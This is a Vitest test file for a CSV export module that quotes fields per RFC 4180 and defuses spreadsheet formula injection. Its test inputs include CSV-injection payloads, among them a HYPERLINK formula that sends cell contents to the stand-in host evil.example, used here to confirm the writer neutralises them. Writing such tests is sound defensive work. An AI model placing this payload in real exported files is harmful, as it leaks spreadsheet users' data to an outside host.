/** The CSV cell writer (src/lib/data/csv.ts): RFC 4180 quoting, and spreadsheet formulas defused per OWASP. */
import { describe, expect, it } from 'vitest';
import { UTF8_BOM, csvDownload, csvField, defuseFormula, toCsv } from '../../src/lib/data/csv.ts';

describe('formula cells', () => {
  // The security review's payloads (section 4), as a content file could carry them.
  it.each([
    ['=1+1', "'=1+1"],
    ['+2+3', "'+2+3"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    [
      '=HYPERLINK("https://evil.example/?d="&A2,"Open source")',
      '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Open source"")"',
    ],
  ])('%j is written as text: %s', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it('leaves ordinary text and numbers alone, negative numbers included', () => {
    expect(csvField('Seoul’s spy agency')).toBe('Seoul’s spy agency');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(12000)).toBe('12000');
    expect(csvField(-5)).toBe('-5');
    expect(defuseFormula('뉴스.net')).toBe('뉴스.net');
  });

  it('defuses cells in a whole table, header included', () => {
    expect(toCsv([{ a: '=1', b: 'x' }], ['a', 'b'])).toBe("a,b\r\n'=1,x\r\n");
  });
});

describe('download file', () => {
  it('starts with a UTF-8 byte-order mark, so Excel reads 뉴스.net and curly quotes', () => {
    const file = csvDownload(toCsv([{ outlet: '뉴스.net', note: '“quoted”' }], ['outlet', 'note']));
    expect(file.startsWith(UTF8_BOM)).toBe(true);
    expect([...Buffer.from(file, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.slice(1)).toBe('outlet,note\r\n뉴스.net,“quoted”\r\n');
  });
});
